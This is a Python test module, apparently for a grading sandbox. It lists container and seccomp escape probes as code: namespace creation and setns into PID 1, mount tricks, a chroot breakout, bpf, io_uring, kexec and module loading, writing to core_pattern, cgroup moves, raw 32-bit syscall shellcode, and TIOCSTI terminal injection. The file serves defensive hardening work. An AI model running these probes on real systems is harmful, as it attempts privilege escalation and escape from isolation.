"""Attacks on the walls themselves: system calls that would take them down, or open a part of the kernel that has no business here."""

# ruff: noqa: E501 - a line of an attack is as long as what it tries

from __future__ import annotations

from ..attack import Attack, code

CALL = code("""
    import ctypes, os
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    def call(number, *arguments):
        found = libc.syscall(ctypes.c_long(number), *[ctypes.c_long(a) if isinstance(a, int) else a for a in arguments])
        print("refused" if found < 0 else "granted", os.strerror(ctypes.get_errno()) if found < 0 else "")
        return found
""")
KERNEL = "a part of the kernel in which errors are found every year"


def asking(name: str, story: str, wants: str, text: str, *, unsafe: str = "") -> Attack:
    """Return an attack by system calls, with ``call(number, …)`` at hand."""
    return Attack(name=name, story=story, wants=wants, cells=(CALL + code(text),), unsafe=unsafe)


ATTACKS = (
    asking(
        "namespaces of its own",
        "Makes a user namespace of its own, in which it is root again.",
        "the rights to mount and to trace",
        """
        pid = os.fork()
        if pid == 0:
            # A child of its own: the namespace ends with it.
            granted = libc.unshare(0x10000000 | 0x00020000 | 0x40000000) == 0
            os._exit(7 if granted else 0)
        if os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) == 7:
            won("makes namespaces")
        """,
    ),
    asking(
        "somebody else's namespaces",
        "Joins the namespaces of the first process and of its parent.",
        "the machine as it was before the walls",
        """
        import glob
        for pid in (1, os.getppid()):
            for path in glob.glob(f"/proc/{pid}/ns/*"):
                try:
                    fd = os.open(path, os.O_RDONLY)
                except OSError:
                    continue
                if os.readlink(path) != os.readlink("/proc/self/ns/" + os.path.basename(path)) and libc.setns(fd, 0) == 0:
                    won("joins " + os.path.basename(path))
        """,
        unsafe="as root it would leave the container that it runs in",
    ),
    asking(
        "a mount",
        "Mounts over its own folders, and takes a mount away that hides something.",
        "what lies beneath",
        """
        os.makedirs("m", exist_ok=True)
        if libc.mount(b"none", b"m", b"tmpfs", 0, None) == 0 or libc.mount(b"/", b"m", None, 4096 | 16384, None) == 0:
            won("mounts")
        for path in (b"/tmp", b"/proc", b"/dev", b"/"):
            if libc.umount2(path, 2) == 0:
                won("takes a mount away")
        """,
        unsafe="it would change this machine's mounts",
    ),
    asking(
        "mounts by the new calls",
        "Mounts by fsopen, move_mount and open_tree, which older filters do not know.",
        "what lies beneath",
        """
        for number, arguments in ((430, (ctypes.c_char_p(b"tmpfs"), 0)), (428, (-100, ctypes.c_char_p(b"/"), 1)), (442, (-100, ctypes.c_char_p(b"/"), 0, None, 0))):
            if call(number, *arguments) >= 0:
                won("prepares a mount")
        """,
        unsafe="it would change this machine's mounts",
    ),
    asking(
        "another user",
        "Sets its user and group to root and to others, and asks for capabilities.",
        "files of other users",
        """
        for user in (0, 1, 65534):
            try:
                os.setresuid(user, user, user)
                os.setresgid(user, user, user)
            except OSError as error:
                print(type(error).__name__)
        libc.prctl(47, 2, 21, 0, 0)
        status = open("/proc/self/status").read()
        if "CapEff:\\t0000000000000000" not in status and os.path.exists(OUTSIDE):
            won("has capabilities")
        """,
        unsafe="it would change the user of its process for good",
    ),
    asking(
        "a program with the set-user bit",
        "Starts programs that run as root whoever starts them.",
        "the rights of root",
        """
        import subprocess
        for program in ("su", "sudo", "mount", "newgrp", "passwd"):
            try:
                done = subprocess.run([program, "-c", f"touch {OUTSIDE}/{MARK}"], stdin=subprocess.DEVNULL, capture_output=True, timeout=3)
                print(program, done.returncode)
            except (OSError, subprocess.SubprocessError) as error:
                print(program, type(error).__name__)
        """,
        unsafe="it would start programs of this machine that run as root",
    ),
    asking(
        "out of a chroot",
        "Changes its root folder and climbs out by a folder that it has kept open.",
        "the machine's real root folder",
        """
        start = os.open("/", os.O_RDONLY)
        os.makedirs("jail", exist_ok=True)
        os.chroot("jail")
        os.fchdir(start)
        for _ in range(100):
            os.chdir("..")
        os.chroot(".")
        if os.path.exists(OUTSIDE):
            won("gets out of its root folder")
        """,
        unsafe="it works only as root, who has the real root folder already",
    ),
    asking(
        "bpf",
        "Loads a program into the kernel.",
        KERNEL,
        """
        attributes = (ctypes.c_uint32 * 32)(1, 4, 8, 1)
        if call(321, 0, ctypes.byref(attributes), 128) >= 0:
            won("makes a bpf map")
        """,
    ),
    asking(
        "io_uring",
        "Sets up a ring by which system calls pass the filter unseen.",
        "every system call that the filter forbids",
        """
        parameters = ctypes.create_string_buffer(240)
        if call(425, 4, ctypes.byref(parameters)) >= 0:
            won("sets up a ring")
        """,
    ),
    asking(
        "keys of the kernel",
        "Adds a key to the kernel's key rings and looks for those of others.",
        "secrets that other programs keep there",
        """
        if call(248, ctypes.c_char_p(b"user"), ctypes.c_char_p(MARK.encode()), ctypes.c_char_p(b"x"), 1, -1) >= 0:
            won("adds a key")
        if call(250, 0, -4, 0) >= 0:
            won("opens a key ring")
        """,
    ),
    asking(
        "userfaultfd",
        "Asks to handle page faults itself, which attacks on the kernel need for their timing.",
        KERNEL,
        """
        if call(323, 0) >= 0 or call(323, 1) >= 0:
            won("handles page faults")
        """,
    ),
    asking(
        "performance counters",
        "Opens a performance counter on its process and on the whole machine.",
        "what other processes do, and " + KERNEL,
        """
        attributes = ctypes.create_string_buffer(128)
        attributes[4] = 128
        if call(298, ctypes.byref(attributes), 0, -1, -1, 0) >= 0 or call(298, ctypes.byref(attributes), -1, 0, -1, 0) >= 0:
            won("opens a counter")
        """,
    ),
    asking(
        "another kernel",
        "Asks to load another kernel, and a module into this one.",
        "the machine",
        """
        for number, arguments in ((246, (0, 0, None, 0)), (320, (-1, -1, 0, None, 0)), (313, (-1, ctypes.c_char_p(b""), 0)), (175, (None, 0, ctypes.c_char_p(b"")))):
            if call(number, *arguments) >= 0:
                won("loads into the kernel")
        """,
        unsafe="it would change this machine's kernel",
    ),
    asking(
        "settings of the kernel",
        "Writes to /proc/sys and /sys, for example the program that handles crashes.",
        "a program that runs as root outside",
        """
        for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sysrq-trigger", "/sys/kernel/uevent_helper"):
            try:
                open(path, "r+").close()
                won("opens a setting of the kernel")
            except OSError as error:
                print(type(error).__name__)
        """,
        unsafe="it would open this machine's kernel settings for writing",
    ),
    asking(
        "control groups",
        "Moves its process to another control group and lifts that group's limits.",
        "memory and processors without a limit",
        """
        import glob
        for path in ["/sys/fs/cgroup/cgroup.procs", *glob.glob("/sys/fs/cgroup/*/cgroup.procs")[:20]]:
            try:
                with open(path, "w") as file:
                    file.write(str(os.getpid()))
                won("moves to another control group")
            except OSError as error:
                print(type(error).__name__)
        """,
        unsafe="it would move processes between this machine's control groups",
    ),
    asking(
        "a new process by clone3",
        "Makes a process with namespaces of its own by clone3, whose flags a filter cannot see.",
        "namespaces in spite of the filter",
        """
        arguments = (ctypes.c_uint64 * 11)(0x10000000 | 0x00020000, 0, 0, 0, 17)
        pid = libc.syscall(ctypes.c_long(435), ctypes.byref(arguments), ctypes.c_long(88))
        if pid == 0:
            os._exit(0)
        if pid > 0:
            os.waitpid(pid, 0)
            won("makes a process with namespaces")
        """,
        unsafe="it would fork the process in the middle of its conversation",
    ),
    asking(
        "the old 32-bit calls",
        "Makes a system call by the old 32-bit entry and by the x32 numbers, which some filters do not look at.",
        "every system call that the filter forbids",
        """
        import mmap, platform
        if platform.machine() == "x86_64":
            pid = os.fork()
            if pid == 0:
                # mov eax, 0x17a or the x32 number of unshare; int 0x80 is for 32 bits.
                text = bytes.fromhex("b836010000bb00000010cd80c3")
                page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
                page.write(text)
                run = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
                granted = run() == 0 or libc.syscall(ctypes.c_long(0x40000000 | 272), ctypes.c_long(0x10000000)) == 0
                os._exit(7 if granted else 0)
            if os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) == 7:
                won("makes namespaces by the back door")
        """,
    ),
    asking(
        "terminal input",
        "Pushes characters into the terminal of whoever grades, as if they had been typed.",
        "commands that run as the instructor",
        """
        import fcntl, termios
        for fd in (0, 1, 2):
            try:
                for letter in "true\\n":
                    fcntl.ioctl(fd, termios.TIOCSTI, letter.encode())
                won("types into the terminal")
            except OSError as error:
                print(type(error).__name__)
        try:
            os.open("/dev/tty", os.O_RDWR)
            won("opens the terminal")
        except OSError as error:
            print(type(error).__name__)
        """,
    ),
)
